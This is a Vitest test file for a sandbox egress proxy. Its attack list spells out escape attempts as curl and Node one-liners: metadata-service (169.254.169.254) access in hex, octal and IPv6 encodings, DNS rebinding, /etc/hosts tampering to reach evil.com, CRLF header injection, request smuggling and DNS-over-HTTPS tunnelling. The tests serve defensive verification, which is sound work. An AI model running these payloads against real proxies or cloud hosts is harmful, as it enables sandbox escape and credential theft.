import { afterAll, beforeAll, expect, test } from "vitest";
import { openSandboxed, type Sandboxed } from "../support/egress/sandboxed.ts";
import type { Upstream } from "../support/egress/upstream.ts";

const ALLOW = "example.com\n*.example.org\nGET,HEAD registry.pkg.example/**\ngithub";
const MARK = "ANSWER-FROM-OUTSIDE";

let world: Sandboxed;
let upstream: Upstream;

beforeAll(async () => {
  world = await openSandboxed({
    allow: ALLOW,
    deny: "secret.example.org",
    resolve: (host) => [host === "rebound.example.org" ? "169.254.169.254" : "93.184.215.14"],
  });
  upstream = world.upstream;
  upstream.script = { body: `${MARK}\n` };
});

afterAll(() => world?.[Symbol.asyncDispose]());

const inside = (script: string): Promise<string> => world.inside(script);

const curl = (args: string): string => `curl -sS -i --max-time 6 ${args}`;
const node = (body: string): string => `node -e '${body}'`;
/** A head and its body may come apart: who has answered has a second to go on. */
const SEND = node(
  'const s=require("net").connect(3128,"127.0.0.1");process.stdin.pipe(s,{end:false});let t;s.on("data",d=>{process.stdout.write(d);clearTimeout(t);t=setTimeout(()=>process.exit(),1000)});s.on("close",()=>{console.log("closed");process.exit()});s.on("error",()=>0)',
);
/** Bytes to the proxy's port as they are, in the spelling of `printf`. */
const raw = (bytes: string): string => `printf '${bytes}' | ${SEND}`;
/** A plain request through the proxy that names its host twice alike. */
const get = (host: string): string => `GET http://${host}/ HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`;
/** SOCKS5: no authentication, then a connection by name to port 80, and a request. */
const socks = (host: string): string =>
  node(
    `const h=Buffer.from(${JSON.stringify(host)});const s=require("net").connect(3128,"127.0.0.1");s.write(Buffer.from([5,1,0]));s.once("data",()=>{s.write(Buffer.concat([Buffer.from([5,1,0,3,h.length]),h,Buffer.from([0,80]),Buffer.from("GET / HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n")]));s.on("data",d=>console.log(d.toString("latin1")))});s.on("error",()=>0);s.on("close",()=>{console.log("closed");process.exit()});setTimeout(()=>process.exit(console.log("late")),3000)`,
  );

const HONEST = [
  { name: "plain HTTP through the proxy", script: curl("http://example.com/") },
  { name: "TLS through the proxy", script: curl("https://www.example.org/") },
  { name: "TLS that the gateway reads", script: curl("https://registry.pkg.example/package") },
  { name: "SOCKS5 with the name resolved outside", script: curl("--noproxy '' --proxy socks5h://127.0.0.1:3128 http://example.com/") },
  { name: "a request as bytes", script: raw(get("example.com")) },
  { name: "SOCKS5 as bytes", script: socks("example.com") },
  { name: "Node's fetch", script: node('fetch("https://registry.pkg.example/").then(async (r) => console.log(await r.text()))') },
];

test.each(HONEST)("honest work passes from inside: $name", async ({ script }) => {
  expect(await inside(script)).toContain(MARK);
});

const ATTACKS = [
  { name: "another host through the proxy", script: curl("https://evil.com/") },
  { name: "another host over plain HTTP", script: curl("http://evil.com/") },
  { name: "an allowed host past the proxy", script: curl("--noproxy '*' http://example.com/") },
  { name: "an allowed host's address past the proxy", script: curl("--noproxy '*' http://93.184.215.14/") },
  {
    name: "an allowed name pinned to an address by curl",
    script: curl("--noproxy '*' --resolve example.com:80:93.184.215.14 http://example.com/"),
  },
  { name: "a raw address", script: curl("http://93.184.215.14/") },
  { name: "a raw address in decimal", script: curl("--proxy-header X: -x http://127.0.0.1:3128 http://1572394766/") },
  {
    name: "an allowed host on port 22",
    script: raw("CONNECT example.com:22 HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n"),
  },
  { name: "the metadata service", script: curl("--noproxy '*' http://169.254.169.254/latest/meta-data/") },
  { name: "the metadata service through the proxy", script: curl("http://169.254.169.254/latest/meta-data/") },
  { name: "the metadata service in hex", script: curl("http://0xa9fea9fe/") },
  { name: "the metadata service in octal, as curl reads it", script: curl("http://0251.0376.0251.0376/") },
  { name: "the metadata service as mapped IPv6", script: curl("-g 'http://[::ffff:169.254.169.254]/'") },
  { name: "the metadata service as NAT64", script: curl("-g 'http://[64:ff9b::a9fe:a9fe]/'") },
  { name: "an allowed name that resolves to the metadata service", script: curl("http://rebound.example.org/") },
  { name: "a denied name below an allowed wildcard", script: curl("https://secret.example.org/") },
  { name: "a private address", script: curl("http://10.0.0.1/") },
  { name: "the runner's loopback through the proxy", script: curl("--noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:8080/") },
  { name: "localhost of the runner", script: curl("--noproxy '' -x http://127.0.0.1:3128 http://localhost/") },
  { name: "IPv6", script: curl("-g --noproxy '*' 'http://[2606:2800:220:1::1]/'") },
  {
    name: "a name in /etc/hosts that root wrote",
    script: `{ echo '93.184.215.14 evil.com' >> /etc/hosts; } 2>/dev/null; ${curl("http://evil.com/")}`,
  },
  { name: "another server name than the tunnel's", script: curl("--connect-to evil.com:443:example.com:443 -k https://evil.com/") },
  { name: "another Host than the address", script: curl("-H 'Host: evil.com' http://example.com/") },
  { name: "another Host inside TLS that is read", script: curl("-H 'Host: evil.com' https://registry.pkg.example/") },
  { name: "plain text on 443", script: curl("-p http://example.com:443/") },
  { name: "publishing over a host for reading", script: curl("-X PUT -d x https://registry.pkg.example/package") },
  { name: "a git push over the preset", script: curl("-X POST -d x https://github.com/o/r.git/git-receive-pack") },
  { name: "TRACE", script: curl("-X TRACE https://registry.pkg.example/") },
  { name: "DNS over HTTPS at a resolver", script: curl("'https://dns.google/resolve?name=evil.com'") },
  {
    name: "a smuggled second request",
    script: raw(
      "POST http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.com/ HTTP/1.1\\r\\n\\r\\n",
    ),
  },
];

/** What two readers could take in two ways: line ends, zero bytes, octal numbers. */
const AMBIGUOUS = [
  { name: "the metadata service in octal, as written", script: raw(get("0251.0376.0251.0376")) },
  { name: "the metadata service as one octal number", script: raw(get("025177524776")) },
  {
    name: "the metadata service in octal through CONNECT",
    script: raw("CONNECT 0251.0376.0251.0376:80 HTTP/1.1\\r\\nHost: 0251.0376.0251.0376:80\\r\\n\\r\\n"),
  },
  { name: "the metadata service in octal through SOCKS5", script: socks("0251.0376.0251.0376") },
  { name: "the runner's loopback in octal", script: raw(get("0177.0.0.1")) },
  {
    name: "a second Host behind a line end in a header's value",
    script: curl("-H \"$(printf 'X-A: b\\r\\nHost: evil.com')\" http://example.com/"),
  },
  {
    name: "a bare CR in a header's value",
    script: raw("GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nX-A: b\\rHost: evil.com\\r\\n\\r\\n"),
  },
  { name: "bare LF as the line end", script: raw("GET http://example.com/ HTTP/1.1\\nHost: example.com\\n\\n") },
  {
    name: "a folded header",
    script: raw("GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nX-A: b\\r\\n Host: evil.com\\r\\n\\r\\n"),
  },
  { name: "a line end in the target", script: raw("GET http://example.com/\\r\\nX-A: b HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n") },
  {
    name: "a line end in the authority of CONNECT",
    script: raw("CONNECT example.com:443\\r\\nHost: evil.com:443 HTTP/1.1\\r\\nHost: example.com:443\\r\\n\\r\\n"),
  },
  { name: "an escaped line end in the host", script: raw(get("example.com%%0d%%0aHost:evil.com")) },
  { name: "a zero byte in the host", script: raw(get("example.com\\000.evil.com")) },
  { name: "a line end in the name of SOCKS5", script: socks("example.com\r\nHost: evil.com") },
  {
    name: "an escaped line end in the path of a host that is read",
    script: curl("'https://registry.pkg.example/a%0d%0aHost:%20evil.com'"),
  },
  {
    name: "a second request in a chunk's extension",
    script: raw(
      "POST http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n2;a=\\nb\\r\\nhi\\r\\n0\\r\\n\\r\\n",
    ),
  },
];

test.each([...ATTACKS, ...AMBIGUOUS])(
  "I3, N1: from inside the sandbox as root, $name brings no answer from outside",
  async ({ script }) => {
    const seen = upstream.requests.length;
    const output = await inside(script);
    expect(output).not.toContain(MARK);
    expect(output.length).toBeGreaterThan(0);
    expect(upstream.requests.length).toBe(seen);
  },
);

test.each(AMBIGUOUS)("I4: from inside the sandbox as root, the gateway itself answers to $name", async ({ script }) => {
  expect(await inside(script)).toMatch(/^x-airlock-decision: (?:bad-request|ambiguous-path)\r?$|^closed$/m);
});

test("I3, N1, N4: from inside the sandbox as root, DNS, UDP, QUIC and ICMP do not exist", async () => {
  const asked = world.resolved.length;
  const dns = node(
    'const r=new (require("dns").Resolver)({timeout:1000,tries:1});r.setServers(["8.8.8.8"]);r.resolve4("evil.com",(e,a)=>console.log(e?"closed":a))',
  );
  const local = node('require("dns").lookup("evil.com",(e,a)=>console.log(e?"closed":a))');
  const udp = node(
    'const s=require("dgram").createSocket("udp4");s.on("error",()=>{console.log("closed");process.exit()});s.on("message",()=>console.log("open"));s.send("x",443,"93.184.215.14",e=>{if(e){console.log("closed");process.exit()}});setTimeout(()=>{console.log("closed");process.exit()},1500)',
  );
  expect((await inside(dns)).trim()).toBe("closed");
  expect((await inside(local)).trim()).toBe("closed");
  expect((await inside(udp)).trim()).toBe("closed");
  expect(await inside("ping -c 1 -W 1 93.184.215.14 2>&1 || echo closed")).toContain("closed");
  expect(world.resolved.length).toBe(asked);
});

/** Why each of these was refused, as the log has it. */
const REASONS: Readonly<Record<string, string>> = {
  "DNS over HTTPS at a resolver": "default-deny",
  "the metadata service through the proxy": "default-deny",
  "an allowed name that resolves to the metadata service": "address-metadata",
  "a denied name below an allowed wildcard": "deny-rule",
  "publishing over a host for reading": "method",
  "a git push over the preset": "path",
  "another server name than the tunnel's": "server-name",
  "another Host inside TLS that is read": "authority-mismatch",
  "a smuggled second request": "bad-request",
};

test("what the gateway saw of this is in the log with its reason, refused names were never resolved", async () => {
  const played = ATTACKS.filter(({ name }) => name in REASONS);
  expect(played).toHaveLength(Object.keys(REASONS).length);
  for (const { script } of played) await inside(script);
  expect(new Set(world.resolved).has("evil.com")).toBe(false);
  expect(new Set(world.resolved).has("dns.google")).toBe(false);
  const dns = (await world.gateway.egress()).hosts.find(({ host }) => host === "dns.google");
  expect(dns?.command).toMatch(/^curl .*dns\.google/);
  for (const reason of Object.values(REASONS)) await expect.poll(world.readLog).toContain(`"reason":"${reason}"`);
});
